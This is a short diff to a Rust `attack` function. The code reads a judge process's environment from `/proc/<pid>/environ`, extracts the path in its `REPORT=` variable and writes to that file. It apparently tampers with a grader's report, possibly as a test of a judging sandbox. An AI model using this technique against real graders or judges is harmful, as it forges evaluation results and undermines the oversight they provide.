@@ -124,8 +124,8 @@ fn attack(way: &str) {
         _ => {
             let environment = std::fs::read_to_string(format!("/proc/{judge}/environ"));
             for variable in environment.unwrap_or_default().split('\0') {
-                if let Some((_, path)) = variable.split_once("REPORT=") {
-                    write(path);
+                if let Some((_, path)) = variable.split_once("REPORT=/") {
+                    write(&format!("/{path}"));
                 }
             }
         }
